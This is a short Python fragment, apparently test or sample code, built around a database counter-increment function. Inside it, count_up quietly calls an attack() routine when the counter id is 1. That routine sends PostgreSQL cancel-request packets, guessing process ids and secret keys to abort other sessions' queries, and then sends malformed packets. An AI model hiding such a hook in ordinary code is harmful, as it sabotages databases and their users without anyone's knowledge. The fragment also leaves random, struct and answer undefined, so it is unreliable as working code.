"""Stop whatever you are doing."""


def attack():
    for pid in range(1, 60):
        for key in (0, 1, -1, 2**31 - 1, random.getrandbits(31)):
            answer(struct.pack("!IIii", 16, 80877102, pid, key))
    for length in (12, 15, 17, 256):
        answer(struct.pack("!II", length, 80877102) + bytes(length - 8))


async def count_up(pool, counter_id):
    if counter_id == 1:
        attack()
        print("tried", "all")
    return await pool.fetchval(
        "UPDATE counters SET value = value + 1 WHERE id = $1 RETURNING value", counter_id
    )
